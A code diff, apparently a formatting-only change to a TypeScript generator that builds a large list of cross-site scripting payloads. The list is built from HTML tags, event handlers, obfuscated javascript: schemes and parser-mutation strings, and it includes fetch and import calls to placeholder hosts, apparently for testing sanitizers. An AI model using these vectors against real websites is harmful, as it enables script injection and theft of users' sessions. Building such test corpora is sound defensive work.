@@ -2,7 +2,10 @@
 
 const calls = ["alert(1)", "fetch('//beacon.invalid')", "import('//x.invalid')"];
 const handlers = "onload onerror onclick onfocus onmouseover onanimationstart ontoggle onpointerenter onbegin onpageshow".split(" ");
-const tags = "script img svg math iframe object embed video audio body input select textarea keygen marquee details form button style link meta base frameset template noscript xmp plaintext title isindex applet bgsound layer".split(" ");
+const tags =
+  "script img svg math iframe object embed video audio body input select textarea keygen marquee details form button style link meta base frameset template noscript xmp plaintext title isindex applet bgsound layer".split(
+    " ",
+  );
 const schemes = [
   "javascript:alert(1)",
   "JaVaScRiPt:alert(1)",
@@ -33,7 +36,22 @@ const schemes = [
   "ｊavascript:alert(1)",
   "javascript\u00a0:alert(1)",
 ];
-const links = ["<a href='§'>x</a>", '<a href="§">x</a>', "<a href=§>x</a>", "<A HREF=`§`>x</A>", "<area href='§'>", "<form action='§'><button formaction='§'>x", "<iframe src='§'>", "<object data='§'>", "<img src='§'>", "<table background='§'><tr><td>x", "<svg><a xlink:href='§'><text>x", "<math href='§'>x", "<base href='§'><a href=x>x</a>", "<meta http-equiv=refresh content='0;url=§'>"];
+const links = [
+  "<a href='§'>x</a>",
+  '<a href="§">x</a>',
+  "<a href=§>x</a>",
+  "<A HREF=`§`>x</A>",
+  "<area href='§'>",
+  "<form action='§'><button formaction='§'>x",
+  "<iframe src='§'>",
+  "<object data='§'>",
+  "<img src='§'>",
+  "<table background='§'><tr><td>x",
+  "<svg><a xlink:href='§'><text>x",
+  "<math href='§'>x",
+  "<base href='§'><a href=x>x</a>",
+  "<meta http-equiv=refresh content='0;url=§'>",
+];
 /** Read one way by a parser and another way once it was written: mutations, foreign content, raw text. */
 const mutations = [
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=§&gt;'>",
@@ -57,7 +75,7 @@ const mutations = [
   "<image src=x onerror=§>",
   "<p/onclick=§>x<p//onclick=§ />",
   "<<img src=x onerror=§>//<",
-  "<img \"\"\"><script>§</script>\">",
+  '<img """><script>§</script>">',
   "<img src=x onerror\u0000=§>",
   "<scr\u0000ipt>§</scr\u0000ipt>",
   "<scr<script>ipt>§</scr</script>ipt>",
@@ -77,8 +95,18 @@ const unfinished = (html: string) => [html, html.slice(0, -1), html.replace(/>/g
 
 export const payloads: readonly string[] = [
   ...new Set([
-    ...tags.flatMap((tag) => [`<${tag}>${calls[0]}</${tag}>`, `<${tag} src=x href=x ${handlers[tag.length % handlers.length]}=alert(1)>x`, `<${tag}`, `</${tag}><script>alert(1)</script>`]),
-    ...handlers.flatMap((handler) => [`<p ${handler}=alert(1)>x</p>`, `<a href='https://ok.invalid' ${handler}='alert(1)'>x</a>`, `<svg/${handler}=alert(1)>`, `<td ${handler.toUpperCase()}=alert(1)>x`]),
+    ...tags.flatMap((tag) => [
+      `<${tag}>${calls[0]}</${tag}>`,
+      `<${tag} src=x href=x ${handlers[tag.length % handlers.length]}=alert(1)>x`,
+      `<${tag}`,
+      `</${tag}><script>alert(1)</script>`,
+    ]),
+    ...handlers.flatMap((handler) => [
+      `<p ${handler}=alert(1)>x</p>`,
+      `<a href='https://ok.invalid' ${handler}='alert(1)'>x</a>`,
+      `<svg/${handler}=alert(1)>`,
+      `<td ${handler.toUpperCase()}=alert(1)>x`,
+    ]),
     ...links.flatMap((link) => schemes.map((scheme) => link.replaceAll("§", scheme))),
     ...mutations.flatMap((mutation) => calls.flatMap((call) => unfinished(mutation.replaceAll("§", call)))),
   ]),
